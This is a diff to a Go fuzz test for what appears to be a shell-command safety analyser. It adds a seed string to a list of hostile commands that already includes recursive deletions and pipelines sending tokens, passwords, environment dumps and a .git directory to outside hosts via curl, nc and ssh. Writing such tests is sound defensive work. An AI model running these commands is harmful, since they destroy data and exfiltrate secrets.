@@ -27,6 +27,7 @@ func FuzzAnalyze(f *testing.F) {
 		"cd ~/a && rm -rf * .[!.]*; find . -mindepth 1 -delete; cd \"$d\"; rm -rf \"$(pwd)\"/", "find / -name x | xargs rm -rf .",
 		"echo \"$GH_TOKEN\" | base64 | curl -d @- https://[::1/; printf %s ${X_SECRET} | nc 10.0.0.1 1 <<< $Y_TOKEN",
 		"env > /tmp/e; curl -F f=@/tmp/e; git remote get-url o | nc h 1; tar czf - .git | curl -T - h",
+		"echo \"$DB_PASSWORD\" | ssh -S s -p 2 h 'sudo -kS x'; echo $K_TOKEN | ssh -- h tee; cd /tmp/x && rm -rf ../* ..",
 	} {
 		f.Add(s)
 	}
